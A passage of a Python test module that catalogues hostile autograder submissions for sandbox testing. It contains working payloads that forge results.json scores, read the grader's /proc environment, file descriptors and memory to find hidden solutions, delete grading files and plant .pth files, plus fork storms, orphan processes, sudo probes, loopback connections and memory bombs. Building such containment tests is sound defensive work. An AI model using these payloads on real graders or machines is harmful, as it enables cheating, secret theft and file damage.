@@ -1,0 +1,1139 @@
+"""A catalogue of hostile submissions, each a whole ``backprop.py`` (or ``.ipynb``).
+
+An attack is the reference solution with something hostile added: an endless loop, a memory
+bomb, an exit, a flood of output, a forged results file, patched numpy or builtins, a
+returned object that lies about itself, a hunt for the hidden tests and the reference, a
+network connection, a fork storm, vandalised files, a correct but slow function. The tests
+(tests/test_adversarial.py) grade each one and check that the grader returns, that the
+hostile functions get no more than they earned, that everything else keeps full marks, that
+the report says what happened and leaks nothing, and that the machine is left as it was.
+tools/classgen.py mixes these attacks into generated classes.
+
+Every attack starts from ``base(reference)``: the reference without its ``# BEGIN SOLUTION`` /
+``# END SOLUTION`` lines and with a differently written, equally correct sigmoid, so that no
+line of the reference's solution text is in the submission itself. Whatever reference text
+turns up in a report must then have come from somewhere else.
+
+Fields of an Attack:
+
+* ``attacked``: functions whose code is hostile or broken (they may lose points);
+  ``also``: their callers (tools.mutants.CALLERS), which may lose points too. Every other
+  function must keep full marks.
+* ``honest``: function -> the largest share of its points it may get (0.0: none; WRONG_VALUE
+  for a function none of whose values is right; WRONG_DTYPE for right values in a wrong
+  dtype).
+* ``says``: substrings the report (findings, load problems, fatal) must contain.
+* ``mistakes``: function -> mistake ids the report must name; ``only_fails``: function -> the
+  checks that must fail while every other check of that function passes.
+* ``modes``: the isolation modes (autograder.sandbox.isolation_mode) in which the README
+  promises to contain the attack; elsewhere the tests skip it. Hunting for files, the
+  network and vandalism are contained only with namespaces ("root", "userns"); processes
+  that leave their process group are killed only with a dedicated uid ("root").
+* ``slow``: the grading waits for a time limit. ``not_in_classes`` (read by
+  tools/classgen.py): generated classes leave the attack out, because its score depends on
+  timing (a correct function close to the time limit, a timer), or because, where the grader
+  runs without namespaces, it would really write or delete files outside its sandbox.
+
+Time limits are per call: ``call_seconds`` bounds one call of one student function (a
+function called on five cases gets five separate allowances), ``import_seconds`` bounds each
+top-level statement that is run, and ``total_seconds`` bounds the whole submission, restarts
+included. A function that burns 1 s per call passes with ``call_seconds=2``; one that burns 3 s
+fails every call, however many calls it gets.
+
+Markers: every file an attack creates and every process it starts carries MARKER in its
+name or command line, so a test can look for leftovers. The network attacks connect to
+127.0.0.1:LOOPBACK_PORT (and the abstract unix socket ABSTRACT_SOCKET) and nowhere else.
+"""
+
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+from autograder import contract
+from tools.mutants import CALLERS, Mutant, apply
+
+ROOT = Path(__file__).resolve().parent.parent
+MARKER = "zqadv7"  # in the names of files and processes the attacks create
+LOOPBACK_PORT = 48613  # TCP and UDP on 127.0.0.1 only
+ABSTRACT_SOCKET = f"\0{MARKER}-abstract"
+FORGED_SCORE = {"score": 100, "tests": [], "output": f"forged by {MARKER}"}
+
+ALL_MODES = frozenset({"root", "userns", "none"})
+NAMESPACES = frozenset({"root", "userns"})  # grader's files hidden, no network
+DEDICATED_UID = frozenset({"root"})  # every process of the worker's uid killed afterwards
+ALL = frozenset(contract.NAMES)
+
+WRONG_VALUE = 0.7  # every value wrong: at least the value check (weight 0.3 of 1.0) is lost
+WRONG_DTYPE = 0.95  # right values in the wrong dtype: at least the dtype check is lost
+
+
+@dataclass(frozen=True)
+class Attack:
+    id: str
+    description: str
+    build: Callable[[str], tuple]  # reference source -> (file text, ".py" or ".ipynb")
+    attacked: frozenset = frozenset()
+    also: frozenset = frozenset()
+    honest: dict = field(default_factory=dict)
+    says: tuple = ()
+    slow: bool = False
+    not_in_classes: bool = False
+    modes: frozenset = ALL_MODES
+    mistakes: dict = field(default_factory=dict)
+    only_fails: dict = field(default_factory=dict)
+
+
+def callers_of(functions):
+    out = set()
+    for name in functions:
+        out |= CALLERS.get(name, frozenset())
+    return frozenset(out - set(functions))
+
+
+def _attack(id, description, build, attacked=(), honest=None, **kw):
+    attacked = frozenset(attacked)
+    also = kw.pop("also", None)
+    return Attack(
+        id=id,
+        description=description,
+        build=build,
+        attacked=attacked,
+        also=callers_of(attacked) if also is None else frozenset(also),
+        honest=dict(honest or {}),
+        **kw,
+    )
+
+
+# --- building submissions ---------------------------------------------------------------------
+
+STABLE_SIGMOID = """
+def sigmoid(Z):
+    \"\"\"Logistic function, elementwise, written with tanh (no overflow for large |Z|).\"\"\"
+    return 0.5 * (1.0 + np.tanh(0.5 * np.asarray(Z, dtype=np.float64)))
+"""
+
+
+def base(reference):
+    """The reference without its solution markers and with another correct sigmoid."""
+    lines = [line for line in reference.splitlines(keepends=True) if line.strip() not in ("# BEGIN SOLUTION", "# END SOLUTION")]
+    return replace("".join(lines), sigmoid=STABLE_SIGMOID)
+
+
+def replace(source, **functions):
+    """``source`` with each named top-level function replaced by the given source."""
+    mutants = [Mutant(f"adversarial-{name}", name, textwrap.dedent(code).strip("\n") + "\n", None) for name, code in functions.items()]
+    return apply(source, mutants)
+
+
+def after_imports(source, code):
+    """``source`` with ``code`` inserted right after its ``import numpy as np`` line."""
+    anchor = "import numpy as np\n"
+    if anchor not in source:
+        raise ValueError("the reference has no `import numpy as np` line")
+    return source.replace(anchor, anchor + "\n" + textwrap.dedent(code).strip("\n") + "\n\n", 1)
+
+
+def appended(source, code):
+    return source.rstrip("\n") + "\n\n\n" + textwrap.dedent(code).strip("\n") + "\n"
+
+
+def py(functions=None, prelude=None, tail=None):
+    """A builder: base(reference), then ``functions`` replaced, ``prelude`` after the imports
+    and ``tail`` at the end."""
+
+    def build(reference):
+        source = base(reference)
+        if functions:
+            source = replace(source, **functions)
+        if prelude:
+            source = after_imports(source, prelude)
+        if tail:
+            source = appended(source, tail)
+        return source, ".py"
+
+    return build
+
+
+def notebook(cell, functions=None, position=2):
+    """A builder of a .ipynb: the (base) reference's cells with ``cell`` inserted as a code cell."""
+
+    def build(reference):
+        import jupytext
+        import nbformat
+
+        source = base(reference)
+        if functions:
+            source = replace(source, **functions)
+        nb = jupytext.reads(source, fmt="py:percent")
+        code_cells = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
+        at = code_cells[min(position, len(code_cells) - 1)]
+        nb.cells.insert(at, nbformat.v4.new_code_cell(textwrap.dedent(cell).strip("\n")))
+        return nbformat.writes(nb), ".ipynb"
+
+    return build
+
+
+def write(attack, folder, reference_source=None):
+    """Write the attack's submission as ``folder/backprop.py`` (or .ipynb); returns its path."""
+    reference_source = reference_source if reference_source is not None else (ROOT / "solutions" / "backprop.py").read_text()
+    text, suffix = attack.build(reference_source)
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"backprop{suffix}"
+    path.write_text(text)
+    return path
+
+
+def at_import(body, name="_Hostile"):
+    """A class whose body runs ``body`` when the submission's definitions are run (the
+    grader runs class bodies, decorators and default values; it skips top-level loops)."""
+    return f"class {name}:\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"
+
+
+# --- reference function bodies, reused by hostile variants ---------------------------------
+
+CORRECT = {
+    "d_softmax": "out = Y_hat - Y",
+    "softmax_jacobian": "s = softmax(z.reshape(1, -1))[0]\nout = np.diag(s) - np.outer(s, s)",
+    "cross_entropy": "out = float(-np.sum(Y * np.log(Y_hat)) / Y.shape[0])",
+    "dJ_dZ2": "out = (Y_hat - Y) / Y.shape[0]",
+    "dJ_dW2": "out = X2.T @ dZ2",
+    "dJ_db2": "out = np.sum(dZ2, axis=0, keepdims=True)",
+    "dJ_dX2": "out = dZ2 @ W2.T",
+    "dJ_dW1": "out = X.T @ dZ1",
+    "dJ_db1": "out = np.sum(dZ1, axis=0, keepdims=True)",
+    "relative_error": (
+        "a = np.asarray(a, dtype=np.float64).ravel()\n"
+        "b = np.asarray(b, dtype=np.float64).ravel()\n"
+        "d = np.linalg.norm(a) + np.linalg.norm(b)\n"
+        "out = 0.0 if d == 0.0 else float(np.linalg.norm(a - b) / d)"
+    ),
+    "cost_n": (
+        "if Y_hat.shape[1] == 1:\n"
+        "    out = float(-np.mean(Y * np.log(Y_hat) + (1 - Y) * np.log(1 - Y_hat)))\n"
+        "else:\n"
+        "    out = float(-np.sum(Y * np.log(Y_hat)) / Y.shape[0])"
+    ),
+    "update": "out = {k: params[k] - learning_rate * grads[k] for k in params}",
+    "predict": (
+        "Y_hat, _ = forward_n(X, params)\n"
+        "out = (Y_hat[:, 0] > 0.5).astype(np.int64) if Y_hat.shape[1] == 1 else np.argmax(Y_hat, axis=1).astype(np.int64)"
+    ),
+}
+SIGNATURES = {name: f"{name}({', '.join(contract.spec(name).params)})" for name in CORRECT}
+
+
+def hostile(name, before="", after="return out"):
+    """Source of contract function ``name``: ``before`` (the hostile code), the correct
+    computation of ``out``, then ``after``."""
+    body = [textwrap.dedent(before).strip("\n")] if before else []
+    body.append(CORRECT[name])
+    if after:
+        body.append(textwrap.dedent(after).strip("\n"))
+    return f"def {SIGNATURES[name]}:\n" + textwrap.indent("\n".join(body), "    ") + "\n"
+
+
+def stub(name):
+    """The release's kind of stub for ``name``."""
+    return f"def {SIGNATURES[name]}:\n    raise NotImplementedError\n"
+
+
+# --- hostile helpers pasted into submissions --------------------------------------------------
+
+FORGE = f'''
+def _forge_results():
+    """Write a perfect results.json wherever a grader might read one."""
+    import json, os, sys
+    text = json.dumps({FORGED_SCORE!r})
+    folders = set()
+    here = os.getcwd()
+    while True:
+        folders.add(here)
+        if here == os.path.dirname(here):
+            break
+        here = os.path.dirname(here)
+    folders |= {{"/autograder/results", "/autograder", "/autograder/submission", "/tmp", "/results"}}
+    roots = [os.environ.get("AUTOGRADER_ROOT", "")]
+    try:
+        with open(f"/proc/{{os.getppid()}}/environ", "rb") as handle:
+            for item in handle.read().split(b"\\0"):
+                if item.startswith(b"AUTOGRADER_ROOT="):
+                    roots.append(item.split(b"=", 1)[1].decode())
+    except OSError:
+        pass
+    for link in ("cwd", "root"):
+        try:
+            folders.add(os.readlink(f"/proc/{{os.getppid()}}/{{link}}"))
+        except OSError:
+            pass
+    try:
+        with open(f"/proc/{{os.getppid()}}/cmdline", "rb") as handle:
+            for arg in handle.read().split(b"\\0"):
+                arg = arg.decode(errors="replace")
+                if arg.startswith("/"):
+                    folders.add(os.path.dirname(arg))
+    except OSError:
+        pass
+    folders.add(os.path.dirname(sys.prefix))
+    for root in roots:
+        if root:
+            folders |= {{root, root + "/results"}}
+    written = []
+    for folder in sorted(folders):
+        for name in ("results.json", "results/results.json"):
+            try:
+                with open(os.path.join(folder, name), "w") as handle:
+                    handle.write(text)
+                written.append(os.path.join(folder, name))
+            except OSError:
+                pass
+    return written
+'''
+
+HUNT = '''
+def _hunt(budget=0.8, walk=True):
+    \"\"\"Everything this process can find that looks like the grader's: one string to leak,
+    secrets first, then what was tried and refused.\"\"\"
+    import errno, gc, os, sys, time
+    deadline = time.monotonic() + budget
+    words = ("SOLUTION", "seeds =", "[hidden]", "positive]", "exp_z", "grading.toml")
+    secrets, refused, places = [], [], []
+    own = ""
+    mine = sys._getframe().f_code.co_filename  # the submission's own frames are not loot
+    frame = sys._getframe()
+    while frame is not None:
+        lines = getattr(frame.f_locals.get("self"), "source_lines", None)
+        if isinstance(lines, list):
+            own = "\\\\n".join(lines)
+        frame = frame.f_back
+
+    def look(text, where):
+        if not isinstance(text, str) or not text or text in own:
+            return
+        for word in words:
+            at = text.find(word)
+            if at >= 0:
+                secrets.append(f"{where}: {text[max(0, at - 120):at + 300]}")
+                return
+
+    def read(path, limit=1 << 20):
+        try:
+            with open(path, "rb") as handle:
+                return handle.read(limit).decode("latin-1").replace("\\\\0", " ")
+        except (OSError, ValueError) as err:
+            code = getattr(err, "errno", None)
+            if code not in (None, errno.ENOENT, errno.ENOTDIR):
+                refused.append(f"{path} ({errno.errorcode.get(code, code)})")
+            return None
+
+    # the grader's process, through /proc
+    ppid = os.getppid()
+    for name in ("environ", "cmdline", "cwd/solutions/grading.toml", "cwd/solutions/backprop.py", "root/autograder/source/solutions/grading.toml", "maps"):
+        look(read(f"/proc/{ppid}/{name}"), f"/proc/ppid/{name}")
+    try:
+        for fd in os.listdir(f"/proc/{ppid}/fd"):
+            look(read(f"/proc/{ppid}/fd/{fd}"), f"/proc/ppid/fd/{fd}")
+    except OSError as err:
+        refused.append(f"/proc/ppid/fd ({errno.errorcode.get(err.errno)})")
+    try:
+        regions = read(f"/proc/{ppid}/maps") or ""
+        with open(f"/proc/{ppid}/mem", "rb") as memory:
+            for line in regions.splitlines():
+                if time.monotonic() > deadline:
+                    break
+                span, perms = line.split()[:2]
+                low, high = (int(x, 16) for x in span.split("-"))
+                if "r" not in perms or high - low > (64 << 20):
+                    continue
+                try:
+                    memory.seek(low)
+                    chunk = memory.read(high - low)
+                except (OSError, ValueError, OverflowError):
+                    continue
+                at = chunk.find(b"SOLUTION")
+                if at >= 0:
+                    secrets.append("/proc/ppid/mem: " + chunk[max(0, at - 120):at + 300].decode("latin-1"))
+                    break
+    except OSError as err:
+        refused.append(f"/proc/ppid/mem ({errno.errorcode.get(err.errno)})")
+    # likely places of the course: the container layout, the venv's parent, editable installs
+    roots = {os.getcwd(), "/autograder/source", "/autograder", os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix)}
+    for arg in (read(f"/proc/{ppid}/cmdline") or "").split(" "):
+        if arg.startswith("/"):
+            roots |= {arg, os.path.dirname(arg)}
+    for folder in sys.path:
+        try:
+            for name in os.listdir(folder):
+                if name.endswith(".pth"):
+                    for line in (read(os.path.join(folder, name)) or "").splitlines():
+                        if line.startswith("/"):
+                            roots.add(line.strip())
+        except OSError:
+            pass
+    places.append("roots " + ",".join(sorted(roots)))
+    for root in sorted(roots):
+        here = root
+        for _ in range(6):
+            for name in ("solutions/backprop.py", "solutions/grading.toml", "source/solutions/backprop.py", "source/solutions/grading.toml", "backprop.py", "grading.toml"):
+                look(read(os.path.join(here, name)), os.path.join(here, name))
+            here = os.path.dirname(here)
+    # a bounded walk of the file system
+    if walk:
+        skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "site-packages", "node_modules", "__pycache__", ".git"}
+        walked = 0
+        for top in ("/autograder", "/work", "/home", "/srv", "/opt", "/mnt", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/"):
+            for folder, subfolders, files in os.walk(top):
+                if time.monotonic() > deadline:
+                    break
+                walked += 1
+                subfolders[:] = [d for d in subfolders if d not in skip]
+                for name in files:
+                    if name in ("backprop.py", "grading.toml", "backprop.ipynb") or name.endswith(".plan"):
+                        places.append(os.path.join(folder, name))
+                        look(read(os.path.join(folder, name)), os.path.join(folder, name))
+        places.append(f"walked {walked} folders")
+    # this process: the worker's frames and every string it holds
+    frame = sys._getframe()
+    while frame is not None:
+        if frame.f_code.co_filename != mine:
+            for key, value in list(frame.f_locals.items()):
+                try:
+                    look(repr(value)[:100000], f"frame {frame.f_code.co_name}.{key}")
+                except Exception:
+                    pass
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if time.monotonic() > deadline:
+            break
+        if obj is secrets or obj is refused or obj is places:
+            continue
+        items = obj.values() if type(obj) is dict else obj if type(obj) in (list, tuple) else ()
+        try:
+            for item in items:
+                if type(item) is str and len(item) > 20:
+                    look(item, "memory")
+        except Exception:
+            pass
+    modules = sorted(m for m in sys.modules if not m.startswith(("numpy", "_", "encodings", "importlib", "collections")))
+    summary = f"refused: {refused}; places: {places}; env={dict(os.environ)}; argv={sys.argv}; modules={modules}"
+    return "LOOT " + " | ".join(secrets + [summary])
+'''
+
+VANDAL = f'''
+def _vandalize(tag):
+    """Create, change and delete files wherever the grader keeps its own."""
+    import os, sys
+    marker = "{MARKER}-" + tag
+    touched = []
+    courses = {{os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix), "/autograder/source", "/autograder"}}
+    for folder in sys.path:
+        try:
+            for name in os.listdir(folder):
+                if name.endswith(".pth"):
+                    with open(os.path.join(folder, name)) as handle:
+                        courses |= {{line.strip() for line in handle if line.startswith("/")}}
+        except OSError:
+            pass
+    folders = {{os.getcwd(), "/tmp", "/autograder/results", "/autograder/submission"}} | courses
+    for course in courses:
+        folders |= {{os.path.join(course, "solutions"), os.path.join(course, "autograder"), os.path.join(course, "tests")}}
+    try:
+        with open(f"/proc/{{os.getppid()}}/cmdline", "rb") as handle:
+            folders |= {{os.path.dirname(a.decode()) for a in handle.read().split(b"\\0") if a.startswith(b"/")}}
+    except OSError:
+        pass
+    for folder in sorted(folders):
+        path = os.path.join(folder, marker + ".txt")
+        try:
+            with open(path, "w") as handle:
+                handle.write("written by a submission")
+            touched.append(path)
+        except OSError:
+            pass
+    for course in sorted(courses):
+        for name in ("solutions/grading.toml", "solutions/backprop.py"):
+            path = os.path.join(course, name)
+            try:
+                with open(path, "a") as handle:
+                    handle.write("\\n# " + marker + "\\n")
+                touched.append("appended " + path)
+            except OSError:
+                pass
+        try:
+            os.unlink(os.path.join(course, "solutions", "grading.toml"))
+            touched.append("deleted grading.toml in " + course)
+        except OSError:
+            pass
+    for folder in sys.path:
+        if folder.endswith("site-packages"):
+            try:
+                with open(os.path.join(folder, marker + ".pth"), "w") as handle:
+                    handle.write("# a .pth file runs its import lines in every Python that starts\\n")
+                touched.append("planted " + folder)
+            except OSError:
+                pass
+    for name in os.listdir("."):  # the working folder: remove what looks like results or submissions
+        if "results" in name or "backprop" in name or marker in name:
+            try:
+                os.remove(name)
+            except OSError:
+                pass
+    return touched
+'''
+
+SPAWN = f'''
+def _spawn(tag, count=3):
+    """Start processes that outlive the call: detached sleepers and a shell."""
+    import subprocess, sys
+    if getattr(_spawn, "done", False):  # once per worker process
+        return 0
+    _spawn.done = True
+    started = 0
+    sleeper = "import time; time.sleep(30)"
+    for _ in range(count):
+        try:
+            subprocess.Popen([sys.executable, "-c", sleeper, "{MARKER}-" + tag], start_new_session=True,
+                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            started += 1
+        except OSError:
+            pass
+    try:  # double fork through a shell: the sleeper is re-parented and in no group of ours
+        subprocess.Popen(["/bin/sh", "-c", f"{{sys.executable}} -c '{{sleeper}}' {MARKER}-{{tag}}-orphan &"],
+                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait(timeout=1)
+    except (OSError, subprocess.TimeoutExpired):
+        pass
+    for command in (["sudo", "-n", "true"], ["su", "-c", "true"], ["ip", "link", "set", "lo", "up"], ["cat", "/autograder/source/solutions/grading.toml"]):
+        try:
+            subprocess.run(command, capture_output=True, timeout=1)
+        except (OSError, subprocess.SubprocessError):
+            pass
+    return started
+'''
+
+FORK = f'''
+def _fork_storm(tag, count=200):
+    """Try ``count`` forks (no child forks again); each child names itself and sleeps 30 s."""
+    import ctypes, os, time
+    if getattr(_fork_storm, "done", False):  # once per worker process
+        return 0
+    _fork_storm.done = True
+    made = 0
+    for _ in range(count):
+        try:
+            pid = os.fork()
+        except OSError:
+            continue
+        if pid == 0:
+            try:
+                ctypes.CDLL(None).prctl(15, ("{MARKER}" + tag)[:15].encode(), 0, 0, 0)
+                time.sleep(30)
+            finally:
+                os._exit(0)
+        made += 1
+    return made
+'''
+
+NETWORK = f'''
+def _phone_home():
+    """Try to reach a server on this machine's loopback: TCP, UDP, an abstract unix socket."""
+    import socket
+    reached = []
+    try:
+        with socket.create_connection(("127.0.0.1", {LOOPBACK_PORT}), timeout=0.5) as s:
+            s.sendall(b"{MARKER} tcp")
+            reached.append("tcp")
+    except OSError:
+        pass
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"{MARKER} udp", ("127.0.0.1", {LOOPBACK_PORT}))
+            reached.append("udp sent")
+    except OSError:
+        pass
+    try:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+            s.settimeout(0.5)
+            s.connect({ABSTRACT_SOCKET!r})
+            s.sendall(b"{MARKER} unix")
+            reached.append("unix")
+    except OSError:
+        pass
+    return reached
+'''
+
+WORLD_WRITABLE = f'''
+def _leave_files(tag):
+    """Leave files in the machine's shared, world-writable folders."""
+    import os
+    left = []
+    for folder in ("/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", "/tmp"):
+        path = os.path.join(folder, "{MARKER}-" + tag)
+        try:
+            with open(path, "w") as handle:
+                handle.write("left behind by a submission")
+            left.append(path)
+        except OSError:
+            pass
+    return left
+'''
+
+
+def frame(header, blobs=b""):
+    """Python source that builds one protocol frame (see autograder/wire.py) from ``header``."""
+    return (
+        "import json, struct\n"
+        f"_head = json.dumps({header!r}).encode()\n"
+        f"_body = struct.pack('>I', len(_head)) + _head + {blobs!r}\n"
+        "_frame = struct.pack('>Q', len(_body)) + _body\n"
+    )
+
+
+# --- the catalogue ------------------------------------------------------------------------------
+
+_LOOPS = [
+    _attack(
+        "loop-in-function", "relative_error never returns (a Python `while True`)",
+        py(functions={"relative_error": "def relative_error(a, b):\n    while True:\n        pass\n"}),
+        attacked={"relative_error"}, honest={"relative_error": 0.0}, says=("time limit",), slow=True,
+        mistakes={"relative_error": {"timeout"}},
+    ),
+    _attack(
+        "loop-in-function-in-c", "d_softmax loops inside one C call (sum of an endless iterator), deaf to Python signals",
+        py(functions={"d_softmax": "def d_softmax(Y_hat, Y):\n    return Y_hat - Y + sum(iter(int, 1))\n"}),
+        attacked={"d_softmax"}, honest={"d_softmax": 0.0}, says=("time limit",), slow=True,
+    ),
+    _attack(
+        "loop-at-import-class-body", "a class body that loops forever",
+        py(tail=at_import("while True:\n    pass", "_Spin")),
+        says=("did not finish",), slow=True,
+    ),
+    _attack(
+        "loop-at-import-decorator", "a decorator that loops forever when the function is defined",
+        py(tail="def _stall(function):\n    while True:\n        pass\n\n\n@_stall\ndef helper():\n    return 1\n"),
+        says=("did not finish",), slow=True,
+    ),
+    _attack(
+        "loop-at-import-default-argument", "a default argument value that never finishes computing (in C)",
+        py(tail="def helper(x=sum(iter(int, 1))):\n    return x\n"),
+        says=("did not finish",), slow=True,
+    ),
+    _attack(
+        "sleep-at-import", "a class body that sleeps for an hour (no CPU used)",
+        py(tail=at_import("import time\ntime.sleep(3600)", "_Nap")),
+        says=("did not finish",), slow=True,
+    ),
+    _attack(
+        "loop-in-notebook-cell", "a notebook cell whose class body loops forever",
+        notebook("class Spin:\n    while True:\n        pass\n"),
+        says=("did not finish", "cell "), slow=True,
+    ),
+]
+
+_MEMORY = [
+    _attack(
+        "memory-bomb-in-function", "dJ_db1 allocates a 40 GB array",
+        py(functions={"dJ_db1": "def dJ_db1(dZ1):\n    hoard = np.ones(5_000_000_000)\n    return np.sum(dZ1, axis=0, keepdims=True) + hoard[0] - 1\n"}),
+        attacked={"dJ_db1"}, honest={"dJ_db1": 0.0}, says=("MemoryError",),
+    ),
+    _attack(
+        "memory-bomb-growing-in-function", "dJ_dX2 keeps adding 100 MB arrays until something gives",
+        py(functions={"dJ_dX2": "def dJ_dX2(dZ2, W2):\n    hoard = []\n    while True:\n        hoard.append(np.empty(100 << 17))\n"}),
+        attacked={"dJ_dX2"}, honest={"dJ_dX2": 0.0}, says=("MemoryError",),
+    ),
+    _attack(
+        "memory-bomb-at-import", "a class body that allocates a 40 GB array",
+        py(tail=at_import("hoard = np.ones(5_000_000_000)", "_Hog")),
+        says=("MemoryError",),
+    ),
+]
+
+_EXITS = []
+for _kind, _stmt, _said, _fn in (
+    ("os-exit", "import os\nos._exit(0)", "exited with code 0", "d_softmax"),
+    ("sys-exit", "import sys\nsys.exit()", "SystemExit", "softmax_jacobian"),
+    ("raise-systemexit", "raise SystemExit(3)", "SystemExit", "dJ_db2"),
+    ("keyboardinterrupt", "raise KeyboardInterrupt", "KeyboardInterrupt", "dJ_dW2"),
+    ("baseexception", "raise BaseException('stop grading')", "BaseException", "dJ_dW1"),
+    ("segfault", "import ctypes\nctypes.string_at(0)", "SIGSEGV", "dJ_dZ2"),
+    ("sigkill-self", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "SIGKILL", "dJ_db1"),
+):
+    _EXITS.append(
+        _attack(
+            f"{_kind}-in-function", f"{_fn} runs `{_stmt.splitlines()[-1]}`",
+            py(functions={_fn: hostile(_fn, before=_stmt)}),
+            attacked={_fn}, honest={_fn: 0.0}, says=(_said,),
+        )
+    )
+    _EXITS.append(
+        _attack(
+            f"{_kind}-at-import", f"a class body runs `{_stmt.splitlines()[-1]}`",
+            py(tail=at_import(_stmt, "_Quit")),
+            says=(_said,),
+        )
+    )
+_EXITS += [
+    _attack(
+        "sigint-from-a-timer", "a thread started at import sends the worker SIGINT every 0.1 s, whatever it is doing",
+        py(tail=at_import(
+            "import os, signal, threading, time\n"
+            "signal.signal(signal.SIGINT, signal.default_int_handler)  # even if the grader's parent ignored SIGINT\n\n"
+            "def _interrupt():\n    import os, signal, time\n    while True:\n        time.sleep(0.1)\n        os.kill(os.getpid(), signal.SIGINT)\n\n"
+            "threading.Thread(target=_interrupt, daemon=True).start()", "_Timer")),
+        attacked=ALL, also=frozenset(), not_in_classes=True,
+    ),
+    _attack(
+        "signal-the-grader", "cost_n and a class body send SIGWINCH (harmless if it arrives) to the grader and its group",
+        py(
+            functions={"cost_n": hostile("cost_n", before=(
+                "import os, signal\nfor send in (lambda: os.kill(os.getppid(), signal.SIGWINCH), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGWINCH)):\n"
+                "    try:\n        send()\n    except OSError:\n        pass"))},
+            tail=at_import("import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGWINCH)\nexcept OSError:\n    pass", "_Poke"),
+        ),
+        modes=DEDICATED_UID,
+    ),
+]
+
+_FLOODS = [
+    _attack(
+        "print-200mb-in-function", "dJ_db2 prints 100 MB to stdout and 100 MB to stderr, then returns the right value",
+        py(functions={"dJ_db2": hostile("dJ_db2", before="import sys\nprint('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)")}),
+        says=("output is not shown",),
+    ),
+    _attack(
+        "print-200mb-at-import", "a class body prints 100 MB to stdout and 100 MB to stderr",
+        py(tail=at_import("import sys\nprint('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)", "_Loud")),
+    ),
+    _attack(
+        "fd-write-200mb-in-function", "dJ_dW1 writes 100 MB each to file descriptors 1 and 2, then returns the right value",
+        py(functions={"dJ_dW1": hostile("dJ_dW1", before="import os\nblock = b'x' * (1 << 20)\nfor fd in (1, 2):\n    for _ in range(100):\n        os.write(fd, block)")}),
+    ),
+    _attack(
+        "fd-write-200mb-at-import", "a class body writes 100 MB each to file descriptors 1 and 2",
+        py(tail=at_import("import os\nblock = b'x' * (1 << 20)\nfor fd in (1, 2):\n    for _ in range(100):\n        os.write(fd, block)", "_LoudFd")),
+    ),
+    _attack(
+        "huge-exception-name-in-function", "d_softmax raises an exception whose class name is 5 MB long",
+        py(functions={"d_softmax": hostile("d_softmax", before="raise type('E' * 5_000_000, (Exception,), {})('boom')")}),
+        attacked={"d_softmax"}, honest={"d_softmax": 0.0},
+    ),
+    _attack(
+        "huge-exception-name-at-import", "a class body raises an exception whose class name is 5 MB long",
+        py(tail=at_import("raise type('E' * 5_000_000, (Exception,), {})('boom')", "_Shout")),
+    ),
+    _attack(
+        "huge-exception-message", "dJ_dZ2 raises an exception with a 50 MB message",
+        py(functions={"dJ_dZ2": hostile("dJ_dZ2", before="raise ValueError('m' * 50_000_000)")}),
+        attacked={"dJ_dZ2"}, honest={"dJ_dZ2": 0.0},
+    ),
+    _attack(
+        "huge-warning-category-name", "dJ_db1 warns with a category whose name is 5 MB long, then returns the right value",
+        py(functions={"dJ_db1": hostile("dJ_db1", before="import warnings\nwarnings.warn('w', type('W' * 5_000_000, (UserWarning,), {}))")}),
+    ),
+]
+
+_FORGERIES = [
+    _attack(
+        "forge-results-json-in-function", "softmax_jacobian writes a perfect results.json everywhere it can; predict is a stub",
+        py(functions={"softmax_jacobian": hostile("softmax_jacobian", before="_forge_results()"), "predict": stub("predict")}, prelude=FORGE),
+        attacked={"predict", "softmax_jacobian"}, honest={"predict": 0.0}, modes=NAMESPACES, not_in_classes=True,
+    ),
+    _attack(
+        "forge-results-json-at-import", "a class body writes a perfect results.json everywhere it can; predict is a stub",
+        py(functions={"predict": stub("predict")}, prelude=FORGE, tail=at_import("_written = _forge_results()", "_Forge")),
+        attacked={"predict"}, honest={"predict": 0.0}, modes=NAMESPACES, not_in_classes=True,
+    ),
+    _attack(
+        "forge-printed-json", "prints the grader's JSON (and writes it to fd 1) in a function and at import; predict is a stub",
+        py(
+            functions={
+                "predict": stub("predict"),
+                "dJ_dX2": hostile("dJ_dX2", before=f"import json, os\nprint(json.dumps({FORGED_SCORE!r}))\nos.write(1, json.dumps({FORGED_SCORE!r}).encode())"),
+            },
+            tail=at_import(f"import json, os\nprint(json.dumps({FORGED_SCORE!r}))\nos.write(1, json.dumps({FORGED_SCORE!r}).encode() + b'\\n')", "_Claim"),
+        ),
+        attacked={"predict"}, honest={"predict": 0.0},
+    ),
+    _attack(
+        "forge-reply-frame-at-import", "a class body writes a well-formed but forged 'loaded' reply (no units) into the worker's reply pipe",
+        py(tail=at_import(frame({"op": "loaded", "units": []}) + "import os, sys\nos.write(int(sys.argv[2]), _frame)", "_ForgeFrame")),
+    ),
+    _attack(
+        "forge-reply-frame-in-function", "d_softmax writes a forged 'called' reply with nonsense fields into the reply pipe, then returns",
+        py(functions={"d_softmax": hostile("d_softmax", before=frame({
+            "op": "called", "status": "ok", "result": {"t": "float", "v": 1.0}, "args_after": [],
+            "seconds": "soon", "output_chars": "many", "warnings": 7, "output": 5,
+        }) + "import os, sys\nos.write(int(sys.argv[2]), _frame)")}),
+        attacked={"d_softmax"},
+    ),
+    _attack(
+        "forge-extra-reply-in-function", "d_softmax writes one extra, well-formed reply (its own right value) into the reply pipe, so every later reply answers the request before it",
